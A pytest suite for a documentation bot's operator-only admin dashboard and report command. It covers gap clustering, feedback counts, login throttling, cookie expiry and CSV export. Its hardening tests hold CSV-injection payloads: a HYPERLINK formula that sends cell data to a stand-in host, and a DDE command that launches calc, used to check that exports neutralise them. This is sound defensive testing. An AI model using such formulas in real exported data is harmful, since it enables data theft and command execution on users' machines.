"""/admin and `python -m bot report`: coverage gaps grouped by meaning, per-section numbers, plots, CSV; operator-only.

The same tests run on SQLite and on a real PostgreSQL server (``store_settings`` is parametrized);
the browser test drives Debian's Chromium and saves a 1280x900 screenshot.
"""

from __future__ import annotations

import csv
import io
import os
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from app import WebSettings, build_app
from bot.engine.retrieve import Engine
from bot.kb.embed import HashEmbedder
from bot.records import Event
from bot.store.database import Store
from bot.web.admin import build_report, cluster, report_text
from fixtures.browser import CHROMIUM, chromium_missing_reason
from fixtures.server import ThreadServer

ADMIN = "operator-secret"
API = "api-secret"
OOM = "gpu.md#问题-显存不足怎么办"
NCCL = "gpu.md#问题-多卡训练报错-libnccl-so"

# Three gaps the documents do not cover, in several wordings, plus one-offs.
CUDA = [
    "how to install CUDA 12 on Ubuntu 22.04",
    "install CUDA 12 on Ubuntu 22.04 fails",
    "CUDA 12 install on Ubuntu 22.04 errors",
]
NPU = ["昇腾 NPU 上训练报错怎么办", "昇腾 NPU 训练报错", "在昇腾 NPU 上训练模型报错"]
HOROVOD = ["horovod allreduce hangs forever", "Horovod allreduce hangs with 8 GPUs"]


def now() -> datetime:
    return datetime.now(UTC).replace(tzinfo=None)


def seed(store: Store, *, days: int = 30) -> None:
    """A month of traffic with timestamps in the past, written straight through the store's writer path."""
    t = now()
    rows = []
    for day in range(days):
        # A minute in the past, not an hour: at 00:30 an hour back is yesterday, and the weekly counts move.
        at = t - timedelta(days=day, minutes=1)
        for n in range(3 + day % 4):
            rows.append(
                store._row(
                    Event("question", "显存不足怎么办", "zh", tier="answer", confidence=0.9, cited=(OOM,)),
                    f"s{day}-{n}",
                    80.0 + n,
                    at=at,
                )
            )
        if day % 2 == 0:
            rows.append(
                store._row(
                    Event("question", CUDA[day % 3], "en", tier="none", confidence=0.1, cited=(NCCL,)), "", 90.0, at=at
                )
            )
        if day < 10:  # a new gap: growing this week
            rows.append(
                store._row(
                    Event("question", NPU[day % 3], "zh", tier="tentative", confidence=0.4, cited=(OOM,)),
                    "",
                    95.0,
                    at=at,
                )
            )
        if day % 5 == 0:
            rows.append(
                store._row(
                    Event("not_helpful", HOROVOD[day % 2], "en", tier="answer", cited=(NCCL, OOM)), "", None, at=at
                )
            )
        if day % 3 == 0:
            rows.append(
                store._row(
                    Event(
                        "vote", "显存不足怎么办", "zh", tier="answer", cited=(OOM,), vote="up", answer_id=f"up-{day}"
                    ),
                    "",
                    None,
                    at=at,
                )
            )
        if day % 4 == 0:
            rows.append(
                store._row(
                    Event(
                        "vote",
                        HOROVOD[0],
                        "en",
                        tier="answer",
                        cited=(NCCL,),
                        vote="down",
                        reason="wrong_section",
                        answer_id=f"down-{day}",
                    ),
                    "",
                    None,
                    at=at,
                )
            )
    store._write(rows)


# ---------------------------------------------------------------- the report itself


def test_gaps_are_grouped_by_meaning_largest_first(store_settings):
    store = Store.open(store_settings)
    try:
        seed(store)
        embedder = HashEmbedder()
        report = build_report(
            store.rows(now() - timedelta(days=30)), lambda t: embedder.embed(t, role="query"), days=30
        )
    finally:
        store.close()
    groups = report.groups
    found = [{e.question for e in g.examples} for g in groups]
    assert set(CUDA) in found and set(NPU) in found, found
    assert any(set(HOROVOD) <= f for f in found), found  # not_helpful and down-votes of the same problem together
    assert [g.size for g in groups] == sorted((g.size for g in groups), reverse=True)
    cuda = next(g for g in groups if {e.question for e in g.examples} == set(CUDA))
    assert cuda.size == 15 and cuda.kinds == {"unanswered": 15}
    npu = next(g for g in groups if {e.question for e in g.examples} == set(NPU))
    assert npu.size == 10 and npu.last_week == 7 and npu.week_before == 3 and npu.trend == "↑ 7 vs 3"
    assert sum(npu.daily) == 10 and len(npu.daily) == 30
    sections = {s.key: s for s in report.sections}
    assert sections[OOM].cited == sum(3 + d % 4 for d in range(30)) + 10 and sections[OOM].up == 10
    assert (
        sections[NCCL].down == 8 and sections[NCCL].reasons == {"wrong_section": 8} and sections[NCCL].not_helpful == 6
    )
    assert report.sections[0].key == NCCL  # the most complained-about section first
    assert report.totals["questions"] == sum(report.series["questions"]) and report.totals["unanswered"] == 15


def test_cluster_picks_the_number_of_groups():
    embedder = HashEmbedder()
    texts = CUDA + NPU + HOROVOD
    labels = cluster(embedder.embed(texts, role="query"))
    assert len(set(labels)) == 3
    assert len({labels[i] for i in range(3)}) == 1 and len({labels[i] for i in range(3, 6)}) == 1


def test_without_question_text_groups_by_nearest_section(store_settings):
    store = Store.open(store_settings.model_copy(update={"store_question_text": False}))
    try:
        seed(store)
        report = build_report(store.rows(), lambda t: pytest.fail("nothing to embed"), lambda key: f"title of {key}")
    finally:
        store.close()
    assert not report.text_kept
    assert {g.label for g in report.groups} == {f"near “title of {NCCL}”", f"near “title of {OOM}”"}
    assert all(not g.examples for g in report.groups)
    assert "no question text is kept" in report_text(report)


# ---------------------------------------------------------------- the page over HTTP


def _site(store_settings, hash_settings, web: WebSettings):
    store = Store.open(store_settings.model_copy(update={"admin_token": ADMIN}))
    seed(store)
    engine = Engine.open(hash_settings, auto_build=True)
    app = build_app(hash_settings, engine=engine, web=web, progress=False, store=store, ops=store.settings)
    return ThreadServer(app), store


@pytest.fixture
def admin_site(store_settings, hash_settings):
    """The app with a seeded store and an operator credential; the API itself open (no BOT_API_TOKEN)."""
    server, store = _site(store_settings, hash_settings, WebSettings())
    with server:
        yield server, store
    store.close()


def test_the_api_token_does_not_open_admin(store_settings, hash_settings):
    server, store = _site(store_settings, hash_settings, WebSettings(api_token=API))
    try:
        with server:
            for path in ("/admin", "/admin/data.json", "/admin/export.csv"):
                response = httpx.get(server.url + path, headers={"Authorization": f"Bearer {API}"}, timeout=30)
                assert response.status_code == 401, path
    finally:
        store.close()


def test_admin_refuses_without_the_operator_credential(admin_site):
    server, _ = admin_site
    for path in ("/admin", "/admin/data.json", "/admin/export.csv"):
        assert httpx.get(server.url + path, timeout=30).status_code == 401, path
        assert httpx.get(server.url + path, headers={"Authorization": "Bearer guess"}, timeout=30).status_code == 401, (
            path
        )
    page = httpx.get(server.url + "/admin", timeout=30)
    assert "Operator credential" in page.text and "horovod" not in page.text.lower()
    wrong = httpx.post(server.url + "/admin/login", data={"token": "guess"}, timeout=30)
    assert (
        wrong.status_code == 401 and "not the operator credential" in wrong.text and "set-cookie" not in wrong.headers
    )
    with httpx.Client(base_url=server.url, timeout=30) as browser:
        signed = browser.post("/admin/login", data={"token": ADMIN}, follow_redirects=True)
        assert signed.status_code == 200 and "Coverage gaps" in signed.text
        cookie = browser.cookies.get("bot_admin")
        assert cookie and ADMIN not in cookie  # an HMAC of the credential, not the credential


def test_the_admin_cookie_expires_on_the_server(admin_site):
    # Before: the cookie was a fixed HMAC of the token, valid forever on the server (12 h was only the browser's).
    import time

    from bot.web.admin import admin_key
    from bot.web.credentials import COOKIE_MAX_AGE, cookie_value

    server, _ = admin_site
    with httpx.Client(base_url=server.url, timeout=30) as browser:
        browser.post("/admin/login", data={"token": ADMIN})
        fresh = browser.cookies.get("bot_admin")
    assert fresh and httpx.get(server.url + "/admin", cookies={"bot_admin": fresh}, timeout=30).status_code == 200
    stale = cookie_value(admin_key(ADMIN), int(time.time()) - COOKIE_MAX_AGE - 60)
    assert httpx.get(server.url + "/admin", cookies={"bot_admin": stale}, timeout=30).status_code == 401
    door = cookie_value(ADMIN, int(time.time()))  # signed like the door's cookie, not the admin's
    assert httpx.get(server.url + "/admin", cookies={"bot_admin": door}, timeout=30).status_code == 401


def test_admin_page_data_and_csv(admin_site):
    server, store = admin_site
    auth = {"Authorization": f"Bearer {ADMIN}"}
    page = httpx.get(server.url + "/admin", headers=auth, timeout=60)
    assert page.status_code == 200 and "default-src 'none'" in page.headers["content-security-policy"]
    html = page.text
    assert "<script" not in html and "cdn" not in html.lower()
    assert (
        html.count('<tr class="group">') >= 3 and html.count("<svg") >= 7
    )  # two charts (and their phone twins) + one sparkline per group
    assert CUDA[0] in html or CUDA[1] in html or CUDA[2] in html
    data = httpx.get(server.url + "/admin/data.json", headers=auth, timeout=60).json()
    assert data["totals"]["unanswered"] == 15 and data["groups"][0]["size"] >= data["groups"][-1]["size"]
    groups = list(
        csv.DictReader(
            io.StringIO(
                httpx.get(server.url + "/admin/export.csv?table=groups", headers=auth, timeout=60).text.lstrip("\ufeff")
            )
        )
    )
    assert [int(g["size"]) for g in groups] == [g["size"] for g in data["groups"]]
    sections = httpx.get(server.url + "/admin/export.csv?table=sections", headers=auth, timeout=60)
    assert (
        sections.headers["content-type"].startswith("text/csv")
        and "attachment" in sections.headers["content-disposition"]
    )
    assert f'"{NCCL}",' in sections.text and "wrong_section 8" in sections.text  # every field quoted (OWASP)
    events = list(
        csv.DictReader(
            io.StringIO(
                httpx.get(server.url + "/admin/export.csv?table=events&days=7", headers=auth, timeout=60).text.lstrip(
                    "\ufeff"
                )
            )
        )
    )
    assert events and all(e["at"] >= (now() - timedelta(days=8)).isoformat() for e in events)
    # a vote through the API shows up in the data
    assert (
        httpx.post(
            server.url + "/api/feedback",
            timeout=30,
            json={
                "question": "显存不足怎么办",
                "vote": "down",
                "reason": "outdated",
                "cited": [OOM],
                "answer_id": "a-1",
            },
        ).status_code
        == 200
    )
    assert store.flush(10)
    after = httpx.get(server.url + "/admin/data.json", headers=auth, timeout=60).json()
    row = next(s for s in after["sections"] if s["key"] == OOM)
    assert row["down"] == 1 and row["reasons"] == {"outdated": 1}


def test_admin_is_off_without_an_operator_credential(store_settings, hash_settings):
    store = Store.open(store_settings)  # no admin_token
    try:
        app = build_app(hash_settings, engine=Engine.open(hash_settings, auto_build=True), progress=False, store=store)
        with ThreadServer(app) as server:
            page = httpx.get(server.url + "/admin", timeout=30)
            assert page.status_code == 503 and "BOT_ADMIN_TOKEN" in page.text
            assert httpx.post(server.url + "/admin/login", data={"token": ""}, timeout=30).status_code == 503
    finally:
        store.close()


def report_args(store_settings, hash_settings, monkeypatch) -> list[str]:
    """``python -m bot report``'s arguments and environment for this store and a hash-embedder index."""
    Engine.open(hash_settings, auto_build=True)
    monkeypatch.setenv("BOT_DATABASE_URL", store_settings.database_url)
    monkeypatch.setenv("BOT_DATA_DIR", str(store_settings.data_dir))
    return ["--embedder", "hash", "--index", str(hash_settings.index_dir), "--seeds", str(hash_settings.seeds_dir)]


def test_cli_report_prints_the_same_from_the_store(store_settings, hash_settings, monkeypatch, capsys):
    from bot.cli import main as cli_main

    store = Store.open(store_settings)
    seed(store)
    store.close()
    args = report_args(store_settings, hash_settings, monkeypatch)
    assert cli_main(["report", *args]) == 0
    out = capsys.readouterr().out
    assert "gaps grouped by subject and meaning" in out and "15×" in out and "↑ 7 vs 3" in out
    assert "问题：多卡训练报错 libnccl.so" in out and "wrong_section 8" in out  # section titles from the index
    assert cli_main(["report", "--json", *args]) == 0
    import json

    data = json.loads(capsys.readouterr().out)
    assert data["totals"]["unanswered"] == 15 and len(data["groups"]) >= 3


# ---------------------------------------------------------------- in Chromium

_missing = chromium_missing_reason()


@pytest.mark.browser
@pytest.mark.skipif(_missing is not None, reason=_missing or f"{CHROMIUM} is absent")
@pytest.mark.parametrize("store_settings", ["sqlite"], indirect=True)
def test_admin_in_chromium(admin_site, browser, tmp_path):
    server, _ = admin_site
    folder = Path(os.environ.get("BOT_SCREENSHOT_DIR") or tmp_path)
    folder.mkdir(parents=True, exist_ok=True)
    opened = list(browser.contexts)  # the session's Chromium: close only what this test opens
    try:
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        refused = page.goto(server.url + "/admin")
        assert refused.status == 401 and page.locator("#token").is_visible()
        page.fill("#token", "wrong")
        page.click("button[type=submit]")
        assert page.locator(".error").inner_text() == "That is not the operator credential."
        page.fill("#token", ADMIN)
        page.click("button[type=submit]")
        page.wait_for_selector("#groups")
        assert page.locator("tr.group").count() >= 3
        first = page.locator("tr.group").first
        assert int(first.locator("td").nth(1).inner_text()) >= int(
            page.locator("tr.group").last.locator("td").nth(1).inner_text()
        )
        chart = page.locator("svg.chart").first
        assert chart.is_visible() and chart.bounding_box()["width"] > 300
        shown = ".charts.wide svg.chart"  # the desktop's pair (the phone's twins are hidden at 1280 px)
        assert page.locator(f"{shown} polyline").count() == 4  # questions, answered, tentative, unanswered
        assert page.locator(f"{shown} rect.bar").count() == 24  # days with feedback: 10 up, 8 down, 6 didn't help
        assert page.locator("#sections tbody tr").count() == 2
        page.screenshot(path=str(folder / "admin-coverage.png"))
        # sign out: the page refuses again
        page.click("header form button")
        page.wait_for_selector("#token")
    finally:
        for context in browser.contexts:
            if context not in opened:
                context.close()


PROXY = [
    "pip install times out behind the company proxy",
    "pip install behind company proxy times out",
    "company proxy makes pip install time out",
]
ACCURACY = ["model accuracy drops after converting weights", "accuracy drops after weight conversion"]


def test_rare_wordings_join_the_nearest_group(monkeypatch):
    import bot.web.admin.report as report_module

    monkeypatch.setattr(report_module, "CLUSTER_ITEMS", 6)  # only the six most frequent wordings are clustered
    t = now()
    rows = []
    # Three topics naming no subject of the lexicon: they share one bucket, so the head/tail split applies.
    for texts, repeats in ((CUDA, 3), (PROXY, 2), (ACCURACY, 1)):
        for text in texts:
            for _ in range(repeats):
                rows.append(
                    {
                        "at": t,
                        "kind": "question",
                        "tier": "none",
                        "question": text,
                        "signature": None,
                        "cited": [],
                        "vote": None,
                        "latency_ms": None,
                    }
                )
    embedder = HashEmbedder()
    report = build_report(rows, lambda texts: embedder.embed(texts, role="query"), days=7)
    found = sorted(sorted(e.question for e in g.examples) for g in report.groups)
    assert sorted(ACCURACY) not in found  # the two rare wordings were not clustered on their own ...
    assert sum(g.size for g in report.groups) == len(rows)  # ... but every question is in some group


# ---------------------------------------------------------------- hardening (issue 19)

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
FORMULAS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def test_csv_export_runs_no_formula(store_settings, hash_settings):
    """A question typed by anyone must not become a live formula in the operator's spreadsheet (OWASP CSV injection)."""
    store = Store.open(store_settings.model_copy(update={"admin_token": ADMIN}))
    t = now()
    rows = [
        store._row(Event("question", text, "en", tier="none", cited=(OOM,), signature=""), "", 50.0, at=t)
        for text in FORMULAS
        for _ in range(2)
    ]
    rows.append(
        store._row(
            Event("vote", FORMULA, "en", vote="down", reason="other", cited=(OOM,), answer_id="f"), "", None, at=t
        )
    )
    store._write(rows)
    app = build_app(hash_settings, engine=Engine.open(hash_settings, auto_build=True), progress=False, store=store)
    try:
        with ThreadServer(app) as server:
            cells = {}
            for table in ("events", "groups", "gaps", "sections", "days"):
                response = httpx.get(
                    f"{server.url}/admin/export.csv?table={table}",
                    headers={"Authorization": f"Bearer {ADMIN}"},
                    timeout=60,
                )
                assert response.status_code == 200
                cells[table] = [c for row in csv.reader(io.StringIO(response.text.lstrip("\ufeff"))) for c in row]
    finally:
        store.close()
    for table, found in cells.items():
        live = [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not live, (table, live)
    assert "'" + FORMULA in cells["events"]  # kept readable, just inert
    # group labels (a representative question) and the questions with context too
    for table in ("groups", "gaps"):
        assert any(c[:1] == "'" and any(c[1:].startswith(f.strip()[:8]) for f in FORMULAS) for c in cells[table]), (
            table,
            cells[table],
        )


def test_a_weak_admin_token_is_refused_at_start_up(monkeypatch, capsys, tmp_path, store_settings, hash_settings):
    from bot.store.database import StoreSettings

    for weak in ("a", "short", "with space"):
        with pytest.raises(ValueError) as caught:
            StoreSettings.from_env({"BOT_ADMIN_TOKEN": weak})
        message = str(caught.value)
        assert message.startswith("BOT_ADMIN_TOKEN=<") and "8 to 512 printable characters" in message
        assert f"={weak!r}" not in message  # the secret is not echoed
    assert StoreSettings.from_env({"BOT_ADMIN_TOKEN": "Xk3-long-enough"}).admin_token == "Xk3-long-enough"
    import app as app_module

    monkeypatch.setenv("BOT_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("BOT_ADMIN_TOKEN", "a")
    assert app_module.main(["--port", "1", "--index", str(tmp_path / "no-index")]) == 2
    assert "error: BOT_ADMIN_TOKEN=<1 characters, not shown> is not allowed" in capsys.readouterr().err
    # settings built in code (no from_env) are checked when /admin is mounted
    store = Store.open(store_settings.model_copy(update={"admin_token": "a"}))
    try:
        with pytest.raises(ValueError, match="BOT_ADMIN_TOKEN=<1 characters, not shown> is too weak"):
            build_app(hash_settings, engine=Engine.open(hash_settings, auto_build=True), progress=False, store=store)
    finally:
        store.close()


@pytest.mark.parametrize("store_settings", ["sqlite"], indirect=True)
def test_wrong_credentials_are_throttled(admin_site):
    server, _ = admin_site
    statuses = []
    with httpx.Client(base_url=server.url, timeout=30) as client:
        for n in range(500):
            response = client.post("/admin/login", data={"token": f"guess-{n}"})
            statuses.append(response.status_code)
            if response.status_code == 429:
                assert int(response.headers["retry-after"]) >= 1
        # locked out: the right credential gets no answer either, nor does a bearer guess
        assert client.post("/admin/login", data={"token": ADMIN}).status_code == 429
        assert client.get("/admin/data.json", headers={"Authorization": "Bearer guess"}).status_code == 429
    # 5 free tries, then 1 s, 2 s, 4 s, ... lockouts: even a slow machine gets only a few more answers in
    assert statuses[:5] == [401] * 5 and statuses.count(429) >= 480, statuses.count(401)


def test_throttle_doubles_the_lockout_and_forgets_a_quiet_client():
    from bot.web.admin import LoginThrottle

    clock = [100.0]
    throttle = LoginThrottle(free=3, base=1.0, cap=60.0, clock=lambda: clock[0])
    for _ in range(3):
        throttle.failed("10.0.0.1")
    assert throttle.retry_after("10.0.0.1") == 0
    waits = []
    for _ in range(8):
        throttle.failed("10.0.0.1")
        waits.append(throttle.retry_after("10.0.0.1"))
        clock[0] += waits[-1]
    assert waits == [1, 2, 4, 8, 16, 32, 60, 60]
    assert throttle.retry_after("10.0.0.2") == 0  # per client
    throttle.failed("10.0.0.1")
    clock[0] += 61 + 60
    assert throttle.retry_after("10.0.0.1") == 0
    throttle.failed("10.0.0.1")
    assert throttle.retry_after("10.0.0.1") == 0  # forgotten: its free tries again


def test_a_large_backlog_is_embedded_a_bounded_number_per_view():
    """1,140 distinct gap questions: a view embeds at most EMBED_PER_VIEW new ones, the rest are counted."""
    from bot.web.admin import EMBED_PER_VIEW, Embeddings

    embedder = HashEmbedder()
    calls = []

    class Counting:
        def embed(self, texts, role):
            calls.append(len(texts))
            return embedder.embed(texts, role=role)

    class FakeEngine:
        embedder = Counting()

    t = now()
    rows = [
        {
            "at": t,
            "kind": "question",
            "tier": "none",
            "question": f"distinct question number {n}",
            "signature": None,
            "cited": [],
            "vote": None,
            "latency_ms": None,
        }
        for n in range(1_140)
    ]
    embeddings = Embeddings(FakeEngine())
    first = build_report(rows, embeddings, days=7, max_new_embeddings=EMBED_PER_VIEW)
    assert sum(calls) == EMBED_PER_VIEW and first.ungrouped == 1_140 - EMBED_PER_VIEW
    assert sum(g.size for g in first.groups) + first.ungrouped == 1_140
    views = 1
    while build_report(rows, embeddings, days=7, max_new_embeddings=EMBED_PER_VIEW).ungrouped:
        views += 1
    assert sum(calls) == 1_140 and max(calls) <= EMBED_PER_VIEW and views == -(-1_140 // EMBED_PER_VIEW) - 1
    build_report(rows, embeddings, days=7, max_new_embeddings=EMBED_PER_VIEW)
    assert sum(calls) == 1_140  # all cached: a later view embeds nothing


def test_cli_report_deletes_nothing(store_settings, hash_settings, monkeypatch, capsys):
    """`bot report` reads; only the app applies retention (it used to delete 24 -> 19 rows on its own)."""
    from bot.cli import main as cli_main

    store = Store.open(store_settings)
    seed(store, days=30)
    old = [
        store._row(Event("question", f"old {n}", "en", tier="none"), "", None, at=now() - timedelta(days=200 + n))
        for n in range(5)
    ]
    store._write(old)
    before = len(store.rows())
    store.close()
    args = report_args(store_settings, hash_settings, monkeypatch)
    assert cli_main(["report", *args]) == 0
    reader = Store.reader(store_settings)
    try:
        assert len(reader.rows()) == before
    finally:
        reader.close()
